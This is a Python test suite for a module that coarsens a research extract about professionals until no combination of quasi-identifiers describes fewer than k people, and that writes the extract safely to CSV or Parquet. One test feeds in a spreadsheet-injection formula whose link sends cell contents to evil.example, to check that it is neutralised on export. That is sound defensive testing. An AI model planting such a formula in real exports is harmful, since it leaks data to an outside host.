"""The research extract, checked as an attacker would check it: count every combination of what a colleague
could know (partnership, kind of organisation, profession, tier, years band) and every coarser combination,
and look for one that describes fewer than k people."""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
import re

import numpy as np
import polars as pl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reticulist import tabular
from reticulist.comparison.extract import (
    ANY,
    NOT_RECORDED,
    Coarsened,
    coarsen,
    person_key,
    write_extract,
)

SECRET = bytes.fromhex("8f3a61c2d94b07e5a1c3f0b2d6e48a97" * 2)
OTHER_SECRET = bytes.fromhex("17c9e0a4b3d2f5681e7a9c0b4d3f2e15" * 2)
CHECKED = ("partnership", "organisation_kind", "profession", "hierarchy_tier", "years_band")
QUASI = ("organisation_kind", "profession", "hierarchy_tier", "years_in_profession")
PASSING = ("person_key", "late_entry", "interprofessional_training", "spanner_score", "liaison")


def people(
    rng: np.random.Generator,
    n: int,
    *,
    partnerships: int = 4,
    professions: int = 8,
    kinds: int = 5,
    skew: float = 1.0,
    missing: float = 0.1,
) -> pl.DataFrame:
    """``n`` people; professions and kinds of organisation Zipf-like (``skew`` 0 is even)."""

    def zipf(m: int) -> np.ndarray:
        weights = 1 / np.arange(1, m + 1) ** skew
        return weights / weights.sum()

    partnership = rng.integers(0, partnerships, n)
    years = rng.integers(0, 46, n).astype(float)
    years[rng.random(n) < missing] = np.nan
    tier = rng.integers(1, 6, n).astype(float)
    tier[rng.random(n) < missing / 2] = np.nan
    return pl.DataFrame(
        {
            "partnership": [f"P-{p:02d}" for p in partnership],
            "organisation_kind": rng.choice([f"Kind {i}" for i in range(kinds)], n, p=zipf(kinds)),
            "profession": rng.choice([f"Profession {i}" for i in range(professions)], n, p=zipf(professions)),
            "hierarchy_tier": pl.Series(tier).fill_nan(None).cast(pl.Int64),
            "years_in_profession": pl.Series(years).fill_nan(None).cast(pl.Int64),
            "person_key": [person_key(SECRET, int(p), i) for i, p in enumerate(partnership)],
            "late_entry": rng.random(n) < 0.2,
            "interprofessional_training": rng.random(n) < 0.5,
            "spanner_score": rng.normal(size=n),
            "liaison": rng.random(n) < 0.1,
        }
    )


def attack(frame: pl.DataFrame, k: int) -> None:
    """Every combination of the checked columns, and every sub-combination down to the whole, holds 0 or
    at least k people."""
    assert frame.height == 0 or frame.height >= k
    for size in range(1, len(CHECKED) + 1):
        for columns in itertools.combinations(CHECKED, size):
            smallest = frame.group_by(columns).len()["len"].min()
            assert smallest is None or smallest >= k, (columns, smallest)


def _years_fit(years: int | None, band: str) -> bool:
    if band == ANY:
        return True
    if years is None:
        return band == NOT_RECORDED
    if band.endswith("+"):
        return years >= int(band[:-1])
    low, high = map(int, band.split("-"))
    return low <= years <= high


def check(source: pl.DataFrame, out: Coarsened, k: int) -> None:
    """The k property, the accounting, and that the recoding is global and true to the source."""
    assert out.k == k
    attack(out.frame, k)
    assert out.frame.height + out.suppressed == source.height
    assert out.smallest_cell == 0 if out.frame.is_empty() else out.smallest_cell >= k
    assert out.checked == CHECKED
    assert "years_in_profession" not in out.frame.columns
    assert set(out.frame.columns) == set(source.columns) - {"years_in_profession"} | {"years_band"}
    joined = out.frame.join(source, on="person_key", suffix="_source", how="left")
    assert joined.height == out.frame.height
    for column in ("partnership", *PASSING[1:]):  # never generalised, passed through as they were
        assert joined[column].equals(joined[f"{column}_source"], check_names=False), column
    for column in QUASI:  # one mapping for every row: a source value comes out as one label only
        target = "years_band" if column == "years_in_profession" else column
        labels = joined.group_by(f"{column}_source" if target == column else column).agg(
            pl.col(target).n_unique()
        )
        assert (labels[target] == 1).all(), column
    for years, band in zip(joined["years_in_profession"], joined["years_band"], strict=True):
        assert _years_fit(years, band), (years, band)
    for tier, label in zip(joined["hierarchy_tier_source"], joined["hierarchy_tier"], strict=True):
        assert label == ANY or (label == NOT_RECORDED if tier is None else str(tier) in label), (tier, label)


def adversarial(rng: np.random.Generator) -> dict[str, pl.DataFrame]:
    base = people(rng, 300)
    lonely = base.with_columns(
        pl.when(pl.int_range(pl.len()) == 7)
        .then(pl.lit("Astrologer"))
        .otherwise(pl.col("profession"))
        .alias("profession")
    )
    alone = pl.concat(
        [
            base,
            pl.DataFrame(
                {
                    "partnership": ["P-solo"],
                    "organisation_kind": ["Kind 0"],
                    "profession": ["Profession 0"],
                    "hierarchy_tier": [3],
                    "years_in_profession": [12],
                    "person_key": [person_key(SECRET, 99, 1)],
                    "late_entry": [False],
                    "interprofessional_training": [True],
                    "spanner_score": [0.5],
                    "liaison": [False],
                }
            ),
        ]
    )
    n = 45
    unique = people(rng, n, partnerships=1).with_columns(
        organisation_kind=pl.format("Kind {}", pl.int_range(n)),
        profession=pl.format("Profession {}", pl.int_range(n)),
        hierarchy_tier=(pl.int_range(n) % 5 + 1).cast(pl.Int64),
        years_in_profession=pl.int_range(n).cast(pl.Int64),
    )
    nulls = people(rng, 60, partnerships=2).with_columns(
        pl.lit(None, pl.String).alias("organisation_kind"),
        pl.lit(None, pl.String).alias("profession"),
        pl.lit(None, pl.Int64).alias("hierarchy_tier"),
        pl.lit(None, pl.Int64).alias("years_in_profession"),
    )
    skewed = people(rng, 2_000, partnerships=6, professions=30, kinds=12, skew=3.0, missing=0.02)
    tiny = people(rng, 9, partnerships=3)
    return {
        "base": base,
        "lonely": lonely,
        "alone": alone,
        "unique": unique,
        "nulls": nulls,
        "skewed": skewed,
        "tiny": tiny,
        "empty": base.head(0),
    }


@pytest.mark.parametrize("k", [2, 5, 10])
def test_no_combination_describes_fewer_than_k(k):
    for name, frame in adversarial(np.random.default_rng(k)).items():
        out = coarsen(frame, k=k)
        try:
            check(frame, out, k)
        except AssertionError as error:
            raise AssertionError(f"{name}: {error}") from error


@pytest.mark.parametrize("k", [2, 5, 10])
def test_attacks_aimed_at_one_person(k):
    frames = adversarial(np.random.default_rng(100 + k))
    lonely = coarsen(frames["lonely"], k=k).frame
    assert "Astrologer" not in lonely["profession"].to_list()
    alone = coarsen(frames["alone"], k=k)
    assert "P-solo" not in alone.frame["partnership"].to_list()
    assert person_key(SECRET, 99, 1) not in alone.frame["person_key"].to_list()
    assert alone.suppressed >= 1
    assert alone.steps[-1].endswith(f"in combinations of fewer than {k} left out")
    unique = coarsen(frames["unique"], k=k)
    attack(unique.frame, k)
    assert unique.frame.height == frames["unique"].height  # one partnership of 45: "any" everywhere will do


def test_all_missing_stays_as_not_recorded():
    frame = adversarial(np.random.default_rng(3))["nulls"]
    out = coarsen(frame, k=5)
    check(frame, out, 5)
    assert out.suppressed == 0
    assert set(out.frame["profession"]) == {NOT_RECORDED}
    assert set(out.frame["years_band"]) == {NOT_RECORDED}


def test_nothing_left_out_when_nothing_may_be():
    """With nothing allowed to be left out, only people no recoding could help are (a partnership of
    fewer than k); everyone else is kept, however coarse that makes the extract."""
    frame = adversarial(np.random.default_rng(4))["alone"]
    out = coarsen(frame, k=5, max_suppressed=0)
    check(frame, out, 5)
    assert out.suppressed == 1


def test_coarsens_no_more_than_it_needs_to():
    """Plenty of people and a long tail of rare professions: the common ones keep their names, the rare
    ones are grouped, and years keep some bands."""
    rng = np.random.default_rng(5)
    frame = people(rng, 20_000, partnerships=3, professions=25, kinds=4, skew=2.0)
    out = coarsen(frame, k=5)
    check(frame, out, 5)
    professions = set(out.frame["profession"])
    assert "Profession 0" in professions and ANY not in professions
    assert "Other professions" in professions
    assert len(set(out.frame["years_band"])) > 2
    assert out.suppressed <= 0.01 * frame.height
    assert any(step.startswith("Professions with few people grouped") for step in out.steps)


def test_fixed_columns_are_never_generalised():
    frame = people(np.random.default_rng(14), 3_000, kinds=6)
    out = coarsen(frame, k=5, fixed=("partnership", "organisation_kind"))
    assert out.checked == CHECKED
    attack(out.frame, 5)
    joined = out.frame.join(frame, on="person_key", suffix="_source")
    assert (joined["organisation_kind"] == joined["organisation_kind_source"]).all()


def test_steps_say_what_was_done_in_plain_words():
    frame = adversarial(np.random.default_rng(6))["unique"]
    out = coarsen(frame, k=5)
    assert "Years in profession left out (shown as 'any')" in out.steps
    assert all(re.fullmatch(r"[A-Z][^\n]+", step) for step in out.steps)


@pytest.mark.parametrize("column", ["full_name", "email", "phone", "person_id", "date_of_birth", "surname"])
def test_identifying_columns_are_refused(column):
    frame = people(np.random.default_rng(7), 20).with_columns(pl.lit("x").alias(column))
    with pytest.raises(ValueError, match=column):
        coarsen(frame, k=2)
    with pytest.raises(ValueError, match=column):
        write_extract(frame.drop("years_in_profession"), "unused.csv", format="csv")


def test_exact_years_are_never_written(tmp_path):
    frame = people(np.random.default_rng(8), 20)
    with pytest.raises(ValueError, match="years_in_profession"):
        write_extract(frame, tmp_path / "x.parquet", format="parquet")
    assert not (tmp_path / "x.parquet").exists()


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"k": 1}, "k"),
        ({"k": 0}, "k"),
        ({"k": True}, "k"),
        ({"k": 2.5}, "k"),
        ({"k": 5, "fixed": ("partnership", "years_in_profession")}, "fixed"),
        ({"k": 5, "fixed": "partnership"}, "fixed"),
        ({"k": 5, "fixed": ("region",)}, "region"),
        ({"k": 5, "max_suppressed": 1.5}, "max_suppressed"),
    ],
)
def test_bad_arguments_are_refused(change, message):
    frame = people(np.random.default_rng(9), 20)
    with pytest.raises(ValueError, match=message):
        coarsen(frame, **change)


@pytest.mark.parametrize(
    ("frame_change", "message"),
    [
        (lambda f: f.drop("profession"), "profession"),
        (lambda f: f.drop("partnership"), "partnership"),
        (lambda f: f.with_columns(years_in_profession=pl.lit(-1)), "negative"),
        (lambda f: f.with_columns(years_in_profession=pl.lit("ten")), "years"),
        (lambda f: f.with_columns(hierarchy_tier=pl.lit(7)), "1 to 5"),
        (lambda f: f.with_columns(years_band=pl.lit("0-4")), "years_band"),
    ],
)
def test_bad_frames_are_refused(frame_change, message):
    frame = frame_change(people(np.random.default_rng(10), 20))
    with pytest.raises(ValueError, match=message):
        coarsen(frame, k=3)


def test_keys_are_stable_secret_and_not_the_id():
    ids = range(1_000_000, 1_002_000)  # long enough that an id inside a key would not be chance
    keys = [person_key(SECRET, 4, i) for i in ids]
    assert keys == [person_key(SECRET, 4, i) for i in ids]  # stable
    assert len(set(keys)) == len(keys)
    assert all(re.fullmatch(r"[0-9a-f]{20}", key) for key in keys)
    assert all(str(i) not in key and key != str(i) for i, key in zip(ids, keys, strict=True))
    other_group = [person_key(OTHER_SECRET, 4, i) for i in ids]
    assert not set(keys) & set(other_group)
    other_partnership = [person_key(SECRET, 5, i) for i in ids]
    assert not set(keys) & set(other_partnership)
    # Not something anyone could recompute from the id alone.
    for i, key in zip(ids, keys, strict=True):
        assert key not in hashlib.sha256(str(i).encode()).hexdigest()
        assert key not in hashlib.sha256(f"research-extract:4:{i}".encode()).hexdigest()
    # Sorted by key, people are in no order the register has.
    by_key = [i for _, i in sorted(zip(keys, ids, strict=True))]
    assert abs(np.corrcoef(by_key, list(ids))[0, 1]) < 0.1


@pytest.mark.parametrize("secret", [b"", b"short", "a text secret of some length"])
def test_weak_secrets_are_refused(secret):
    with pytest.raises(ValueError, match="secret"):
        person_key(secret, 1, 1)


def test_csv_neutralises_formulas(tmp_path):
    frame = people(np.random.default_rng(11), 40, partnerships=1, professions=1, kinds=1).with_columns(
        profession=pl.lit('=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        partnership=pl.lit("+P-1"),
    )
    out = coarsen(frame, k=2)
    assert out.frame.height == 40
    path = tmp_path / "extract.csv"
    assert write_extract(out, path, format="csv") == 40
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == list(out.frame.columns)
    assert len(rows) == 41
    header = rows[0]
    text = [i for i, column in enumerate(header) if out.frame.schema[column] == pl.String]
    cells = [row[i] for row in rows for i in text] + header  # numbers (-0.7) stay numbers
    assert not [cell for cell in cells if cell.startswith(tabular.FORMULA_START)]
    assert {row[header.index("partnership")] for row in rows[1:]} == {"'+P-1"}
    profession = {row[header.index("profession")] for row in rows[1:]}
    assert profession == {"'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'}
    assert {tabular.unneutralise(v) for v in profession} == {frame["profession"][0]}


def test_parquet_round_trips(tmp_path):
    frame = people(np.random.default_rng(12), 500)
    out = coarsen(frame, k=5)
    path = tmp_path / "extract.parquet"
    assert write_extract(out, path, format="parquet") == out.frame.height
    back = pl.read_parquet(path)
    assert back.equals(out.frame)
    assert back.schema == out.frame.schema


def test_unknown_format_is_refused(tmp_path):
    out = coarsen(people(np.random.default_rng(13), 30), k=2)
    with pytest.raises(ValueError, match="csv"):
        write_extract(out, tmp_path / "x.xlsx", format="xlsx")  # type: ignore[arg-type]


_rows = st.lists(
    st.tuples(
        st.sampled_from(["A", "B", "C"]),
        st.sampled_from(["Police", "Health", "School", None]),
        st.sampled_from(["Nurse", "Teacher", "Social worker", "Officer", "GP", None]),
        st.one_of(st.none(), st.integers(1, 5)),
        st.one_of(st.none(), st.integers(0, 50)),
    ),
    max_size=80,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rows=_rows, k=st.integers(2, 6), allowed=st.sampled_from([0.0, 0.01, 0.2]))
def test_property_k_holds_for_any_frame(rows, k, allowed):
    frame = pl.DataFrame(
        rows,
        schema={
            "partnership": pl.String,
            "organisation_kind": pl.String,
            "profession": pl.String,
            "hierarchy_tier": pl.Int64,
            "years_in_profession": pl.Int64,
        },
        orient="row",
    ).with_columns(
        person_key=pl.int_range(pl.len()).map_elements(lambda i: person_key(SECRET, 1, i), pl.String),
        late_entry=pl.lit(False),
        interprofessional_training=pl.lit(True),
        spanner_score=pl.int_range(pl.len()).cast(pl.Float64),
        liaison=pl.lit(False),
    )
    out = coarsen(frame, k=k, max_suppressed=allowed)
    check(frame, out, k)
    # Only people no recoding could help, and the share allowed, are left out.
    hopeless = frame.group_by("partnership").len().filter(pl.col("len") < k)["len"].sum()
    assert out.suppressed <= hopeless + int(allowed * frame.height)
